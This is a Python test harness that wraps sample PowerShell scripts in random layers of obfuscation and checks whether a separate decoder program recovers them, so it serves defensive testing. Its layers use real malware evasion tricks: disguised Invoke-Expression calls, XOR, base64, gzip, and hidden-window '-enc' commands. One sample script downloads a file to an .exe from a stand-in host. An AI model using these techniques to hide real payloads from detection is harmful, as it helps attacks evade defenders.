#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Our own obfuscator: hides known scripts at random and holds the decoder to them.

usage: obfuscate.py DECODE_LINES [--count N] [--seed N] [--show]

Each known script is written as an expression that PowerShell would evaluate to its text, built from random pieces
(every one of which was checked against the language's rules, not against the decoder), and invoked in a random way,
one to three times over. The last layer must be the known script, or the result must say that it is partial. In some,
a part comes from a variable that nothing sets: there the script must not come out, and the result must be partial.
"""
import argparse
import base64
import gzip
import json
import random
import subprocess
import sys
import zlib

WORDS = 'alpha bravo Charlie delta echo-1 Foxtrot golf_2 hotel India juliet kilo Lima mike november'.split()


def known_script(r):
    w = [r.choice(WORDS) for _ in range(4)]
    url = f'http://{w[0].lower()}.test/{w[1]}/{r.randrange(1000)}.png'
    return r.choice([
        f'Write-Host "{w[0]} {w[1]}"',
        f"(New-Object Net.WebClient).DownloadFile('{url}', '{w[2]}.exe')",
        f"$u = '{url}'; foreach ($n in 1..3) {{ Write-Output $n }}; Start-Sleep {r.randrange(9)}",
        f'Get-Process | Where-Object {{ $_.Name -like "{w[3]}*" }} | Stop-Process -Force',
        f"Set-ItemProperty -Path 'HKCU:\\Software\\{w[0]}' -Name {w[1]} -Value \"{w[2]}`t{w[3]}\"",
        f"$w = @('{w[0]}','{w[1]}'); Write-Host $w[0], \"it's ${{w}} & $(Get-Date)\"\nGet-Item {w[2]}",
        f"# {w[0]}\nif (Test-Path {w[1]}) {{ Remove-Item {w[1]} }} else {{ New-Item {w[2]} }}",
        f"Write-Host 'caf\u00e9 \u4e16\u754c {{0}}' -ForegroundColor Red; Get-Date -f yyyy",
    ])


class Hider:
    def __init__(self, r):
        self.r = r
        self.before = []   # statements that must come first
        self.n = 0
        self.kept = []     # names that are taken
        self.poison = False

    def case(self, text):
        how = self.r.randrange(3)
        if how == 0:
            return text
        return ''.join(c.upper() if self.r.random() < 0.5 else c.lower() for c in text)

    def name(self):
        self.n += 1
        return self.r.choice(['a', 'zz', 'Qx', 'v_']) + str(self.n) + self.r.choice(['', 'b', 'T'])

    def gap(self):
        return self.r.choice(['', '', '', ' ', '  '])

    def single(self, s):
        return "'" + s.replace("'", "''").replace('\u2018', '\u2018\u2018').replace('\u2019', '\u2019\u2019') + "'"

    def double(self, s):
        out = ''
        for c in s:
            if c in '`"$':
                out += '`' + c
            elif c == '\n':
                out += self.r.choice(['`n', '\n'])
            elif c == '\t':
                out += self.r.choice(['`t', '\t'])
            elif c.isalpha() and c.isascii() and c not in '0abefnrtuvx' and self.r.random() < 0.15:
                out += '`' + c
            else:
                out += c
        return '"' + out + '"'

    def literal(self, s):
        return self.single(s) if self.r.random() < 0.6 else self.double(s)

    def pieces(self, s, most=5):
        n = min(len(s), self.r.randrange(2, most + 1))
        cuts = sorted(self.r.sample(range(1, len(s)), n - 1)) if n > 1 else []
        return [s[a:b] for a, b in zip([0] + cuts, cuts + [len(s)])]

    # --- pieces: each gives a primary expression (brackets around it where needed) whose value is s ---

    def concat(self, s, depth):
        return '(' + (self.gap() + '+' + self.gap()).join(self.text(p, depth - 1) for p in self.pieces(s)) + ')'

    def reorder(self, s, depth):
        parts = self.pieces(s, 8)
        order = list(range(len(parts)))
        self.r.shuffle(order)
        form = ''.join('{%d}' % order.index(i) for i in range(len(parts)))
        dash = self.r.choice(['-f', '-F', '\u2013f'])
        return '(' + self.literal(form) + self.gap() + dash + self.gap() + ','.join(self.text(parts[i], depth - 1) for i in order) + ')'

    def junk(self, s, depth):
        token = next(t for t in (self.r.choice(['#', 'QzQ', '~~', 'x1Y', '&%']) + str(i) for i in range(99)) if t not in s and t[0] not in s[-1:])
        spoiled = ''.join(p + token for p in self.pieces(s))
        spoiled = spoiled[:-len(token)] if self.r.random() < 0.5 else spoiled
        if spoiled.replace(token, '') != s:
            return self.single(s)
        if self.r.random() < 0.5:
            return f'{self.text(spoiled, depth - 1)}.{self.case("replace")}({self.literal(token)},{self.r.choice([chr(39) * 2, chr(34) * 2])})'
        operator = self.case(self.r.choice(['-creplace']))
        return f'({self.text(spoiled, depth - 1)} {operator} {self.single(token)},\'\')'

    def codes(self, s, _depth):
        numbers = [ord(c) for c in s]
        form = self.r.choice(['{}', '0x{:x}', '0x{:02X}'])
        listed = ','.join(form.format(n) for n in numbers)
        return self.r.choice([
            f'({self.case("-join")}[{self.case("char")}[]]({listed}))',
            f"(({listed}|%{{[{self.case('char')}]$_}})-{self.case('join')}'')",
            f"(-join({listed}|{self.case('ForEach-Object')} {{ [char][int]$_ }}))",
            f"([{self.case('string')}]::{self.case('join')}('',({listed}|%{{[char]$_}})))",
        ])

    def split_codes(self, s, depth):
        base, name = self.r.choice([(16, 'x'), (8, 'o'), (2, 'b'), (10, 'd')])
        separator = self.r.choice('zq~!;_')
        text = separator.join(format(ord(c), name) for c in s)
        convert = f"[char]([{self.case('convert')}]::{self.case('ToInt32')}($_,{base}))" if base != 10 else '[char][int]$_'
        source = self.text(text, min(depth - 1, 1))
        cut = f".{self.case('split')}('{separator}')" if self.r.random() < 0.5 else f" -split '{separator}'"
        return f"(({source}{cut}|%{{{convert}}}) -join '')"

    def xored(self, s, _depth):
        key = self.r.randrange(1, 256)
        listed = ','.join(str(ord(c) ^ key) for c in s)
        if self.r.random() < 0.5:
            return f"(-join({listed}|%{{[char]($_ -{self.case('bxor')} {self.r.choice([str(key), hex(key)])})}}))"
        if any(ord(c) > 255 for c in s):
            return self.codes(s, 0)
        v, i = self.name(), self.name()
        self.before.append(f'${v}=[byte[]]({listed});for(${i}=0;${i} -lt ${v}.{self.case("length")};${i}++){{${v}[${i}]=${v}[${i}] -bxor {key}}}')
        return f"([Text.Encoding]::{self.case('GetEncoding')}(28591).GetString(${v}))"

    def reverse(self, s, depth):
        back = s[::-1]
        if self.r.random() < 0.4:
            return f"(-join[regex]::{self.case('matches')}({self.text(back, depth - 1)},'.','{self.case('RightToLeft')}'))" if '\n' not in s else self.single(s)
        v = self.name()
        self.before.append(f'${v}={self.text(back, depth - 1)}')
        if self.r.random() < 0.5:
            return f'(-join ${v}[-1..-{len(back)}])'
        if self.r.random() < 0.5:
            return f'(${v}[(${v}.Length-1)..0]-join\'\')'
        c = self.name()
        self.before.append(f'${c}=${v}.ToCharArray();[{self.case("array")}]::{self.case("reverse")}(${c})')
        return f'(-join ${c})'

    def base64(self, s, depth):
        form, encoding = self.r.choice([('utf-8', 'UTF8'), ('utf-16-le', 'Unicode'), ('utf-16-be', 'BigEndianUnicode')])
        data = base64.b64encode(s.encode(form)).decode()
        return (f"[{self.r.choice(['', 'System.'])}{self.case('Text.Encoding')}]::{self.case(encoding)}.{self.case('GetString')}("
                f"[{self.case('Convert')}]::{self.case('FromBase64String')}({self.text(data, min(depth - 1, 1))}))")

    def packed(self, s, _depth):
        data = s.encode()
        kind = self.r.choice(['Gzip', 'Deflate'])
        if kind == 'Gzip':
            raw = gzip.compress(data, mtime=0)
        else:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            raw = c.compress(data) + c.flush()
        text = base64.b64encode(raw).decode()
        stream = self.r.choice(['[IO.MemoryStream][Convert]::FromBase64String({})', '(New-Object IO.MemoryStream(,[Convert]::FromBase64String({})))'])
        return (f"(New-Object {self.case('IO.StreamReader')}((New-Object {self.case('System.IO.Compression.' + kind + 'Stream')}("
                f"{stream.format(self.single(text))},[IO.Compression.CompressionMode]::{self.case('Decompress')})),[Text.Encoding]::UTF8)).{self.case('ReadToEnd')}()")

    def variable(self, s, depth):
        v = self.name()
        how = self.r.randrange(6)
        value = self.text(s, depth - 1)
        if how == 0:
            self.before.append(f'${{{v}}}={value}')
            return f'${v}'
        if how == 1:
            self.before.append(f"{self.case(self.r.choice(['sv', 'Set-Variable', 'set', 'nv']))} {self.literal(v)} ({value})")
            return f"({self.case(self.r.choice(['gv', 'Get-Variable', 'variable']))} {v}).{self.case('value')}"
        if how == 2:
            self.before.append(f'$env:{v}={value}')
            return f'$env:{v}'
        if how == 3:
            self.before.append(f"{self.case('Set-Item')} Variable:{v} ({value})")
            return f"({self.case(self.r.choice(['ls', 'dir', 'gci', 'gi', 'Get-Item']))} Variable:{v}).Value"
        if how == 4:
            special = ''.join(self.r.choice('!@#%^&*()-=+[];:.,/?|<>') for _ in range(3)) + str(self.n)
            self.before.append(f'${{{special}}}={value}')
            return f'${{{special}}}'
        self.before.append(f'${v}=@{{k={value};j=2}}')
        return self.r.choice([f"${v}['k']", f'${v}.k'])

    def function(self, s, _depth):
        f, p = self.name(), self.name()
        key = self.r.randrange(1, 30)
        listed = ','.join(str(ord(c) + key) for c in s)
        body = self.r.choice([
            f'$o="";foreach($c in ${p}.Split(",")){{$o+=[char]([int]$c-{key})}};return $o',
            f'$o=@();${p}.Split(",")|%{{$o+=[char]([int]$_-{key})}};$o -join ""',
            f'-join(${p} -split ","|%{{[char]($_-{key})}})'])
        head = self.r.choice([f'function {f}(${p}){{', f'function {f}{{param(${p});', f'function {f} {{ param([string]${p})\n'])
        self.before.append(head + body + '}')
        return f"({f} '{listed}')"

    def loop(self, s, depth):
        v, i, k = self.name(), self.name(), self.name()
        spaced = ''.join(c + self.r.choice('abc') for c in s)
        self.before.append(f"${v}='';${k}={self.text(spaced, depth - 1)};" + self.r.choice([
            f'for(${i}=0;${i} -lt ${k}.Length;${i}+=2){{${v}+=${k}[${i}]}}',
            f'${i}=0;while(${i} -lt {len(spaced)}){{${v}=${v}+${k}.Substring(${i},1);${i}+=2}}',
            f'${i}=0;do{{${v}+=${k}[${i}];${i}++;${i}++}}until(${i} -ge {len(spaced)})']))
        return f'${v}'

    def edited(self, s, depth):
        at = self.r.randrange(len(s) + 1)
        extra = self.r.choice(['XX', 'q', '000'])
        spoiled = self.text(s[:at] + extra + s[at:], depth - 1)
        return self.r.choice([
            f"{spoiled}.{self.case('remove')}({at},{len(extra)})",
            f"({self.text(s[:at] + 'Z' + s[at:], depth - 1)}.{self.case('substring')}(0,{at})+{self.text('Z' + s[at:], depth - 1)}.Substring(1))",
            f"{self.text('  ' + s + ' ', depth - 1)}.{self.case('trim')}()" if s == s.strip() else f"{spoiled}.Remove({at},{len(extra)})",
            f"{self.text(s[:at], depth - 1)}.{self.case('insert')}({at},{self.text(s[at:], depth - 1)})" if 0 < at < len(s) else f"{spoiled}.Remove({at},{len(extra)})",
        ])

    def wrapped(self, s, depth):
        inner = self.text(s, depth - 1)
        return self.r.choice([f'({inner})', f'$({inner})', f'([string]{inner})', f"([{self.case('string')}]::{self.case('Concat')}({inner}))",
                              f"({inner}).{self.case('ToString')}()", f'(@({inner})[0])', f'({inner},1)[0]'])

    def expanded(self, s, depth):
        parts = self.pieces(s, 3)
        v = self.name()
        self.before.append(f'${v}={self.text(parts[0], depth - 1)}')
        rest = ''.join(parts[1:])
        return '"${' + v + '}' + self.double(rest)[1:] if self.r.random() < 0.5 else '"$(${' + v + '})' + self.double(rest)[1:]

    def secret(self, s):
        """A part that nothing sets: the value is not known."""
        self.poison = True
        parts = self.pieces(s, 3)
        return '(' + '+'.join([self.single(parts[0]), '$env:' + self.name()] + [self.single(p) for p in parts[1:]]) + ')'

    def text(self, s, depth):
        if depth <= 0 or len(s) < 2 or len(s) > 4000:
            return self.literal(s)
        ways = [self.concat, self.concat, self.reorder, self.junk, self.codes, self.split_codes, self.xored, self.reverse, self.base64,
                self.packed, self.variable, self.variable, self.function, self.loop, self.edited, self.wrapped, self.expanded]
        return self.r.choice(ways)(s, depth)

    def iex(self):
        return self.r.choice([
            self.case('iex'), self.case('Invoke-Expression'), 'I`Ex', "&('i'+'ex')", ".('{1}{0}'-f'x','ie')", "&($env:ComSpec[4,15,25]-join'')",
            "&($pshome[4]+$pshome[30]+'x')", "&($ShellId[1]+$ShellId[13]+'x')", "&((gv '*mdr*').Name[3,11,2]-join'')", '&(gcm i*e-e*n)',
            "&(''.Chars.ToString()[15,18,19]-join'')" if False else "&('xei'[-1..-3]-join'')",
            ".((Get-Variable *mdr*).Name[3,11,2]-Join'')", "&$ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression')"])

    def invoked(self, script):
        depth = self.r.randrange(1, 5)
        self.before = []
        value = self.secret(script) if self.poison_here else self.text(script, depth)
        call = self.r.choice([
            lambda: f'{self.iex()} ({value})', lambda: f'({value})|{self.iex()}', lambda: f"&([{self.case('scriptblock')}]::{self.case('create')}({value}))",
            lambda: f'([ScriptBlock]::Create({value})).{self.case("Invoke")}()', lambda: f'$ExecutionContext.InvokeCommand.{self.case("InvokeScript")}({value})',
            lambda: f'$w=({value});{self.iex()} $w', lambda: f'({value})|%{{{self.iex()} $_}}',
            lambda: f'icm -ScriptBlock ([scriptblock]::Create({value}))'])()
        return ';'.join(self.before + [call]) if self.r.random() < 0.8 else '\n'.join(self.before + [call])

    def hide(self, script, poisoned):
        times = self.r.choice([1, 1, 1, 2, 2, 3])
        at = self.r.randrange(times) if poisoned else -1
        for i in range(times):
            self.poison_here = i == at
            script = self.invoked(script)
            if len(script) > 30000:
                break
        if self.r.random() < 0.1:
            flag = self.r.choice(['-e', '-enc', '-EncodedCommand', '-ec', '/enc'])
            return 'command', f'powershell {self.r.choice(["", "-nop ", "-w hidden "])}{flag} {base64.b64encode(script.encode("utf-16-le")).decode()}'
        return 'powershell', script


def make(seed):
    r = random.Random(seed)
    script = known_script(r)
    hider = Hider(r)
    kind, text = hider.hide(script, r.random() < 0.03)
    return {'kind': kind, 'text': text, 'script': script, 'poison': hider.poison, 'seed': seed}


def judge(case, result):
    final = result['layers'][-1]['text']
    if case['poison']:
        return 'held back' if result['partial'] and final != case['script'] else 'WRONG'
    if not result['looks']:
        return 'WRONG'
    if final == case['script'] or result['layers'][-1]['parent'] >= 0 and result['layers'][result['layers'][-1]['parent']]['text'] == case['script']:
        return 'recovered'
    return 'partial' if result['partial'] else 'WRONG'


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('program')
    parser.add_argument('--count', type=int, default=2000)
    parser.add_argument('--seed', type=int, default=1)
    parser.add_argument('--show', action='store_true')
    options = parser.parse_args()
    counts, slowest, spent = {}, 0.0, 0.0
    for start in range(0, options.count, 1000):
        cases = [make(options.seed * 1000003 + i) for i in range(start, min(start + 1000, options.count))]
        lines = ''.join(json.dumps({'kind': c['kind'], 'text': c['text']}) + '\n' for c in cases)
        done = subprocess.run([options.program], input=lines, capture_output=True, text=True, check=True, timeout=600)
        results = [json.loads(line) for line in done.stdout.splitlines()]
        if len(results) != len(cases):
            print('the program lost a line')
            return 1
        for case, result in zip(cases, results):
            verdict = judge(case, result)
            counts[verdict] = counts.get(verdict, 0) + 1
            slowest, spent = max(slowest, result['ms']), spent + result['ms']
            if verdict == 'WRONG' or (options.show and verdict == 'partial'):
                why = [layer['partial'] for layer in result['layers'] if 'partial' in layer]
                print(f'{verdict} seed {case["seed"]} {why}\n   script {case["script"]!r}\n   hidden {case["text"][:3000]}\n   gave   '
                      f'{result["layers"][-1]["text"][:1500]!r}')
    print(f'{options.count} scripts: {counts}, slowest {slowest:.1f} ms, together {spent:.0f} ms')
    recovered = counts.get('recovered', 0) + counts.get('held back', 0)
    return 1 if counts.get('WRONG', 0) or recovered < 0.99 * options.count else 0


if __name__ == '__main__':
    sys.exit(main())
